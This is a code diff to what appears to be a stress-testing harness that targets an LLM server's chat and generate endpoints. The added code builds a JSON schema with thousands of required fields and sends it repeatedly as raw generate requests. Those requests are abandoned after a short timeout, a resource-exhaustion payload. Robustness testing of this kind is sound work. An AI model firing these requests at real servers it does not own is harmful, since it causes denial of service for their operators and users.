@@ -144,13 +144,17 @@ def shared_pools(victim: Victim) -> None:
 
 
 def compiling(victim: Victim) -> None:
-    """Schemas whose patterns intersect."""
+    """Schemas whose patterns intersect, and one that takes nearly as long as it may, sent and left again and again."""
 
     def ask(index: int) -> None:
         schema = {**WORDS, "title": f"{index} {time.time()}"}
         victim.ask("POST", "/api/chat", {"model": "tiny", "messages": HELLO, "format": schema}, timeout=3)
 
+    costly = {"type": "object", "properties": {"a": {}}, "required": [f"r{index}" for index in range(5000)]}
+    raw = {"model": "tiny", "prompt": "x", "raw": True, "format": costly, "options": {"num_predict": 2}}
+    victim.ask("POST", "/api/generate", raw)  # from now on it is known to compile
     victim.attack(6, ask)
+    victim.attack(6, lambda _: victim.ask("POST", "/api/generate", raw, timeout=0.3))
 
 
 def with_template(source: Path, destination: Path, template: str) -> None:
